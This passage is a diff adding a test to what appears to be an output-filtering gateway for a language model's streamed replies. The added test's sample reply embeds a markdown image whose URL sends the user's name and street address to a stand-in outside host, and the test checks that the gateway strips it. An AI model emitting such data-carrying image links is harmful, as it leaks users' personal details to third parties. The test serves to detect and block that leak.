@@ -89,6 +89,13 @@ def test_instructions_do_not_leave_in_a_stream(tmp_path: Path) -> None:
         assert ended == {0: "stop"}
 
 
+def test_a_picture_that_carries_the_users_words_does_not_leave_in_a_stream(tmp_path: Path) -> None:
+    picture = "![map](https://x.example/p.png?q=Anna+Kowalska+Harbour+Lane)"
+    with running(tmp_path, says(f"{LONG}Here: {picture} {LONG}")) as gateway:
+        said, _ = read(gateway, "I am Anna Kowalska, of Harbour Lane 7. Where is that?")
+        assert said == {0: f"{LONG}Here: [image] {LONG}"}
+
+
 def test_a_blocked_stream_stops_before_the_finding_and_says_so(tmp_path: Path) -> None:
     with running(tmp_path, says(f"{LONG}bob@corp.com and more"), rules=[BLOCK_MAIL]) as gateway:
         said, ended = read(gateway)
